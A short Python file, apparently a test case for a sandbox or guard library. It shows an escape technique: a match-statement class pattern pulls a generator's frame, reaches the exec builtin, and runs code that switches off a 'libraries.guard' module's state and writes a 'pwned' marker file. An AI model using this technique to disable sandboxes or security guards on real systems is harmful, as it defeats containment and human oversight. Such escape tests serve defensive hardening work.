"""file: a pattern of a class with keywords reads the frame of a generator."""

import abc

CODE = """\
import sys
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
open("pwned_match_keywords", "w").close()
"""


def generator():
    yield 1


class Generator(abc.ABC):
    pass


running = generator()
Generator.register(type(running))
match running:
    case Generator(gi_frame=frame):
        x = staticmethod(frame.f_builtins["exec"])(CODE)
